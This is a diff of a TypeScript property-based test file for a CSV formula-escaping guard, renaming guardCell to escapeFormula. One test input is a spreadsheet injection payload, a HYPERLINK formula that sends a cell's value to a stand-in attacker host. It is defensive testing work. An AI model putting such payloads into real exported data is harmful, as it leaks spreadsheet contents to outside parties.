@@ -1,7 +1,7 @@
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { parseCsv } from '#testing/parse-csv.ts';
-import { guardCell, toCsv, unguardCell } from './csv.ts';
+import { escapeFormula, toCsv, unguardCell } from './csv.ts';
 
 const hostile = fc.string({
   unit: fc.oneof(
@@ -16,7 +16,7 @@ describe('a guarded cell', () => {
   it('is read back as it was before it was guarded', () => {
     fc.assert(
       fc.property(hostile, (text) => {
-        expect(unguardCell(guardCell(text))).toBe(text);
+        expect(unguardCell(escapeFormula(text))).toBe(text);
       }),
       { numRuns: 2000, examples: [["'"], ["''"], ["'=1"], ['+1 415 555'], ['-'], [' =1'], ['\n'], ['']] },
     );
@@ -27,7 +27,7 @@ describe('a guarded cell', () => {
     const runs = /^[\s\u0000-\u001f\u007f\u00a0\ufeff]*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r\n\0]/;
     fc.assert(
       fc.property(hostile, (text) => {
-        expect(guardCell(text)).not.toMatch(runs);
+        expect(escapeFormula(text)).not.toMatch(runs);
       }),
       { numRuns: 2000 },
     );
@@ -36,20 +36,20 @@ describe('a guarded cell', () => {
   it.each('\u200b\u200d\u2060\ufeff\u00ad\u061c\u202e\u2800\u3164\u3000\u0085'.split(''))(
     'is guarded where its formula stands behind what cannot be seen: %j',
     (unseen) => {
-      expect(guardCell(`${unseen}=1+1`)).toBe(`'${unseen}=1+1`);
-      expect(guardCell(`${unseen}${unseen} @SUM(1)`)).toMatch(/^'/);
-      expect(guardCell(`${unseen}A-17`)).toBe(`${unseen}A-17`);
+      expect(escapeFormula(`${unseen}=1+1`)).toBe(`'${unseen}=1+1`);
+      expect(escapeFormula(`${unseen}${unseen} @SUM(1)`)).toMatch(/^'/);
+      expect(escapeFormula(`${unseen}A-17`)).toBe(`${unseen}A-17`);
     },
   );
 
   it('has no formula behind what a spreadsheet with other separators splits it at', () => {
     const address = '1 Main St;=HYPERLINK("https://evil.example/"&A1);x';
-    expect(guardCell(address)).toBe(`1 Main St;'=HYPERLINK("https://evil.example/"&A1);x`);
-    expect(guardCell('Box\n=1+1\r\n\t@SUM(1)')).toBe("Box\n'=1+1\r\n\t'@SUM(1)");
-    expect(guardCell("a;b\nc 'quoted' 5-6")).toBe("a;b\nc 'quoted' 5-6");
+    expect(escapeFormula(address)).toBe(`1 Main St;'=HYPERLINK("https://evil.example/"&A1);x`);
+    expect(escapeFormula('Box\n=1+1\r\n\t@SUM(1)')).toBe("Box\n'=1+1\r\n\t'@SUM(1)");
+    expect(escapeFormula("a;b\nc 'quoted' 5-6")).toBe("a;b\nc 'quoted' 5-6");
     fc.assert(
       fc.property(hostile, (text) => {
-        for (const part of guardCell(text).split(/[;\t\r\n]/))
+        for (const part of escapeFormula(text).split(/[;\t\r\n]/))
           expect(part).not.toMatch(/^[ \u00a0\ufeff]*[=+\-@\uff1d\uff0b\uff0d\uff20]/);
       }),
       { numRuns: 2000 },
@@ -58,7 +58,7 @@ describe('a guarded cell', () => {
 
   it('has no apostrophe where the text is harmless', () => {
     for (const text of ['A-17', '12 Main St', '007', '1e5', 'O’Neill', ''])
-      expect(guardCell(text)).toBe(text);
+      expect(escapeFormula(text)).toBe(text);
   });
 });
 
